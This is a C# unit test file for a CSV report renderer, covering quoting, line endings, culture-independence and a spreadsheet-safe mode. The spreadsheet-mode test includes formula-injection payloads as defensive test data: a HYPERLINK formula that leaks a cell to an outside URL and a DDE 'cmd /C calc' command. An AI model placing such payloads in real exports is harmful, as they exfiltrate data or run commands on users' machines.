using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using SummitData.Reporting;
using SummitData.Tests.Infrastructure;
using Xunit;

namespace SummitData.Tests;

/// <summary>The CSV report read back with an independent RFC 4180 reader.</summary>
public sealed class CsvReportTests
{
    [Fact]
    public void Figures_round_trip_field_by_field()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> records = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Figure>()));
        IReadOnlyList<string> header = CsvReport.Columns(RecordKind.Of<Figure>());
        Assert.Equal(header, records[0]);
        Assert.Equal(data.Figures.Count, records.Count - 1);

        for (int i = 0; i < data.Figures.Count; i++)
        {
            Figure figure = data.Figures[i];
            Dictionary<string, string> row = header.Zip(records[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(figure.Id, row["id"]);
            Assert.Equal(figure.DocumentId, row["documentId"]);
            Assert.Equal(figure.Text, row["text"]);
            Assert.Equal(figure.Value, decimal.Parse(row["value"], NumberStyles.Number, CultureInfo.InvariantCulture));
            Assert.Equal(figure.Scale, Enum.GetValues<FigureScale>().Single(s => EnumNames.Of(s) == row["scale"]));
            Assert.Equal(figure.Unit, Enum.GetValues<FigureUnit>().Single(u => EnumNames.Of(u) == row["unit"]));
            Assert.Equal(figure.Measures, row["measures"]);
            Assert.Equal(figure.Period ?? string.Empty, row["period"]);
            Assert.Equal(figure.IsApproximate, bool.Parse(row["approximate"]));
            Assert.Equal(figure.Direction is { } direction ? EnumNames.Of(direction) : string.Empty, row["direction"]);
            Assert.Equal(figure.Citation.Line, int.Parse(row["line"], CultureInfo.InvariantCulture));
            Assert.Equal(figure.Citation.Column, int.Parse(row["column"], CultureInfo.InvariantCulture));
        }
    }

    [Fact]
    public void Quotes_round_trip_with_their_references()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> records = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>()));
        IReadOnlyList<string> header = CsvReport.Columns(RecordKind.Of<Quote>());
        Assert.Equal(header, records[0]);
        Assert.Equal(data.Quotes.Count, records.Count - 1);

        for (int i = 0; i < data.Quotes.Count; i++)
        {
            Quote quote = data.Quotes[i];
            Dictionary<string, string> row = header.Zip(records[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(quote.Id, row["id"]);
            Assert.Equal(quote.Text, row["text"]);
            Assert.Equal(EnumNames.Of(quote.Kind), row["kind"]);
            Assert.Equal(quote.Speaker?.Id ?? string.Empty, row["speakerId"]);
            Assert.Equal(quote.Source?.Id ?? string.Empty, row["sourceId"]);
            Assert.Equal(quote.Attribution ?? string.Empty, row["attribution"]);
        }

        // The references resolve in the data set.
        Assert.All(records.Skip(1), r => Assert.True(r[4].Length == 0 || data.People.TryGet(r[4], out _)));
        Assert.All(records.Skip(1), r => Assert.True(r[5].Length == 0 || data.Agreements.TryGet(r[5], out _)));
    }

    public static TheoryData<string> Kinds => [.. RecordKind.All.Select(k => k.Name)];

    [Theory]
    [MemberData(nameof(Kinds))]
    public void Every_kind_has_its_header_and_one_row_per_record_in_order(string name)
    {
        SummitDataSet data = Seeds.DataSet;
        RecordKind kind = RecordKind.Of(name);
        List<string[]> records = ReportParsing.ParseCsv(CsvReport.Render(data, kind));
        IReadOnlyList<string> header = CsvReport.Columns(kind);
        Assert.Equal("id", header[0]);
        Assert.Equal(header, records[0]);
        Assert.Equal(kind.Columns.Where(c => c.InCsv).Select(c => c.Name), header);
        Assert.All(records, r => Assert.Equal(header.Count, r.Length));
        Assert.NotEmpty(ReportParsing.Records(data, kind));
        Assert.Equal(ReportParsing.Records(data, kind).Select(r => r.Id), records.Skip(1).Select(r => r[0]));
    }

    [Fact]
    public void Lists_of_citations_are_their_distinct_words_and_references_their_ids()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> claims = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Claim>()));
        List<string[]> sides = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Discrepancy>()));
        List<string[]> entities = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Entity>()));
        for (int i = 0; i < data.Claims.Count; i++)
        {
            Claim claim = data.Claims[i];
            Dictionary<string, string> row = claims[0].Zip(claims[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(claim.Statement, row["statement"]);
            Assert.Equal(claim.SourceCount, int.Parse(row["sourceCount"], CultureInfo.InvariantCulture));
            Assert.Equal(string.Join(CsvReport.ListSeparator, claim.DocumentIds), row["documentIds"]);
            Assert.Equal(string.Join(CsvReport.ListSeparator, claim.AboutIds), row["about"]);
            Assert.Equal(string.Join(CsvReport.ListSeparator, claim.Citations.Select(c => c.Text).Distinct()), row["citations"]);
        }

        for (int i = 0; i < data.Discrepancies.Count; i++)
        {
            Discrepancy discrepancy = data.Discrepancies[i];
            Dictionary<string, string> row = sides[0].Zip(sides[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(EnumNames.Of(discrepancy.Kind), row["kind"]);
            Assert.Equal(string.Join(CsvReport.ListSeparator, discrepancy.Sides.Select(s => s.Text).Distinct()), row["sides"]);
        }

        for (int i = 0; i < data.Entities.Count; i++)
        {
            Entity entity = data.Entities[i];
            Dictionary<string, string> row = entities[0].Zip(entities[i + 1]).ToDictionary(p => p.First, p => p.Second);
            Assert.Equal(entity.Name, row["name"]);
            Assert.Equal(string.Join(CsvReport.ListSeparator, entity.Spellings), row["spellings"]);
            Assert.Equal(entity.Mentions.Count, int.Parse(row["mentionCount"], CultureInfo.InvariantCulture));
            Assert.Equal(string.Join(CsvReport.ListSeparator, entity.Mentions.Select(m => m.DocumentId).Distinct()), row["documentIds"]);
        }
    }

    [Fact]
    public void Lists_are_joined_and_counts_derived_from_the_records()
    {
        SummitDataSet data = Seeds.DataSet;
        List<string[]> agreements = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Agreement>()));
        IReadOnlyList<string> header = agreements[0];
        for (int i = 0; i < data.Agreements.Count; i++)
        {
            Agreement agreement = data.Agreements[i];
            string[] row = agreements[i + 1];
            Assert.Equal(EnumNames.Of(agreement.Status), row[IndexOf(header, "status")]);
            Assert.Equal(string.Join(CsvReport.ListSeparator, agreement.Parties), row[IndexOf(header, "parties")]);
            Assert.Equal(agreement.Mentions.Count, int.Parse(row[IndexOf(header, "mentionCount")], CultureInfo.InvariantCulture));
            Assert.Equal(agreement.Mentions.Select(m => m.DocumentId).Distinct(), row[IndexOf(header, "documentIds")].Split(CsvReport.ListSeparator));
        }
    }

    [Fact]
    public void Fields_with_commas_quotes_and_line_breaks_survive()
    {
        SummitDataSet data = TrickyData.Create();

        List<string[]> figures = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Figure>()));
        Assert.Equal(data.Figures.Select(f => f.Measures), figures.Skip(1).Select(r => r[6]));
        Assert.Equal(data.Figures.Select(f => f.Text), figures.Skip(1).Select(r => r[2]));
        Assert.Equal(data.Figures.Select(f => f.Period ?? string.Empty), figures.Skip(1).Select(r => r[7]));
        Assert.Contains(data.Figures, f => f.Measures.Contains(',') && f.Measures.Contains('"') && f.Measures.Contains('\n'));
        Assert.Contains(data.Figures, f => f.Text.Contains('\n'));

        // 13.50 keeps its written precision, as in the JSON report.
        Assert.Equal("13.50", figures.Single(r => r[0] == "across-lines")[3]);

        List<string[]> documents = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Document>()));
        Document document = data.Documents.Single();
        Assert.Equal(document.Title, documents[1][3]);
        Assert.Equal(string.Join(CsvReport.ListSeparator, document.Authors), documents[1][5]);
        Assert.Equal("2024-05-16", documents[1][6]);

        List<string[]> quotes = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>()));
        Assert.Equal(data.Quotes.Select(q => q.Text), quotes.Skip(1).Select(r => r[2]));
        Assert.Equal(data.Quotes.Select(q => q.Attribution ?? string.Empty), quotes.Skip(1).Select(r => r[6]));

        List<string[]> people = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Person>()));
        Assert.Equal(data.People.Single().Name, people[1][1]);
    }

    [Fact]
    public void Records_end_with_crlf_and_bare_line_breaks_occur_only_inside_quotes()
    {
        string csv = CsvReport.Render(TrickyData.Create(), RecordKind.Of<Figure>());
        Assert.EndsWith("\r\n", csv, StringComparison.Ordinal);

        // Outside quoted fields, every LF follows a CR.
        bool quoted = false;
        for (int i = 0; i < csv.Length; i++)
        {
            if (csv[i] == '"')
            {
                quoted = !quoted;
            }
            else if (csv[i] == '\n' && !quoted)
            {
                Assert.Equal('\r', csv[i - 1]);
            }
        }
    }

    [Fact]
    public void Output_is_deterministic_and_culture_free()
    {
        foreach (RecordKind kind in RecordKind.All)
        {
            string invariant = Cultures.Render("", () => CsvReport.Render(TrickyData.Create(), kind));
            Assert.Equal(invariant, Cultures.Render("de-DE", () => CsvReport.Render(TrickyData.Create(), kind)));
            Assert.Equal(invariant, Cultures.Render("fr-FR", () => CsvReport.Render(TrickyData.Create(), kind)));
            Assert.Equal(CsvReport.Render(Seeds.DataSet, kind), CsvReport.Render(Seeds.DataSet, kind));
        }
    }

    [Fact]
    public void Unknown_or_missing_kind_is_refused()
    {
        ArgumentException unknown = Assert.Throws<ArgumentException>(() => RecordKind.Of("figure"));
        Assert.Contains("figures", unknown.Message, StringComparison.Ordinal);
        Assert.False(RecordKind.TryGet("Figures", out _));
        Assert.Throws<ArgumentException>(() => RecordKind.Of<INamedEntity>());
        Assert.Throws<ArgumentNullException>(() => CsvReport.Render(Seeds.DataSet, null!));
        Assert.Throws<ArgumentNullException>(() => CsvReport.Columns(null!));
        Assert.Throws<ArgumentNullException>(() => CsvReport.Render(null!, RecordKind.Of<Figure>()));
    }

    [Fact]
    public void Spreadsheet_mode_writes_formula_cells_as_text_and_leaves_plain_numbers_alone()
    {
        string[] formulas = ["=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "=1+2", "\tindented", "\r\nbroken", "-", "+", "-.5", "=-3.5"];
        string[] harmless = ["-3.5", "+7", "-12", "0", "3.5", "a=1", " =1", "'=1", string.Empty];
        SummitDataSet data = QuotesSaying([.. formulas, .. harmless]);

        List<string[]> raw = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Raw));
        Assert.Equal(CsvReport.Render(data, RecordKind.Of<Quote>()), CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Raw));
        List<string[]> safe = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Spreadsheet));
        int text = IndexOf(CsvReport.Columns(RecordKind.Of<Quote>()), "text");
        int attribution = IndexOf(CsvReport.Columns(RecordKind.Of<Quote>()), "attribution");

        Assert.Equal(raw.Count, safe.Count);
        Assert.Equal([.. formulas, .. harmless], raw.Skip(1).Select(r => r[attribution]));
        Assert.Equal([.. formulas.Select(f => "'" + f), .. harmless], safe.Skip(1).Select(r => r[attribution]));
        Assert.Equal(raw.Skip(1).Select(r => r[text]), safe.Skip(1).Select(r => r[text]));

        // Every other field is the same in both modes; a neutralised one is quoted, so that its apostrophe is not
        // taken for part of a bare field by a reader that trims.
        Assert.All(raw.Zip(safe), pair => Assert.Equal(pair.First.Length, pair.Second.Length));
        string csv = CsvReport.Render(data, RecordKind.Of<Quote>(), CsvMode.Spreadsheet);
        Assert.Contains("\"'@SUM(1)\"", csv, StringComparison.Ordinal);
        Assert.Contains(",-3.5,", csv, StringComparison.Ordinal);
    }

    [Fact]
    public void Spreadsheet_mode_leaves_negative_values_numbers()
    {
        const string text = "Trade took a fall.";
        string file = $"---\nformat: summitdata/1\nid: fall\nsha256: {SummitData.Loading.SummitDataLoader.TextSha256(text)}\nfigures:\n  - id: fall\n    exact: a fall\n    value: -13.5\n    unit: percent\n    measures: the fall of trade\n---\n{text}";
        SummitDataSet data = SummitData.Loading.SummitDataLoader.LoadText("fall.summit", file).EnsureSuccess();
        List<string[]> figures = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Of<Figure>(), CsvMode.Spreadsheet));
        Assert.Equal("-13.5", figures[1][IndexOf(CsvReport.Columns(RecordKind.Of<Figure>()), "value")]);
    }

    [Fact]
    public void Undefined_mode_is_refused() =>
        Assert.Throws<ArgumentOutOfRangeException>(() => CsvReport.Render(Seeds.DataSet, RecordKind.Of<Quote>(), (CsvMode)7));

    /// <summary>One document with a quote per word, each attributed to that word (any string, written as a YAML escape).</summary>
    private static SummitDataSet QuotesSaying(string[] words)
    {
        string text = string.Join(" ", words.Select((_, i) => $"“q{i}”"));
        var yaml = new System.Text.StringBuilder();
        yaml.Append("---\nformat: summitdata/1\nid: sheet\nsha256: ").Append(SummitData.Loading.SummitDataLoader.TextSha256(text)).Append("\nquotes:\n");
        for (int i = 0; i < words.Length; i++)
        {
            string escaped = string.Concat(words[i].Select(c => c switch
            {
                '"' => "\\\"",
                '\\' => "\\\\",
                '\t' => "\\t",
                '\r' => "\\r",
                '\n' => "\\n",
                _ => c.ToString(),
            }));
            yaml.Append($"  - id: q{i}\n    exact: q{i}\n    kind: title\n    attribution: \"{escaped}\"\n");
        }

        return SummitData.Loading.SummitDataLoader.LoadText("sheet.summit", yaml + "---\n" + text).EnsureSuccess();
    }

    private static int IndexOf(IReadOnlyList<string> header, string column)
    {
        int index = header.ToList().IndexOf(column);
        Assert.True(index >= 0, $"no column {column}");
        return index;
    }
}
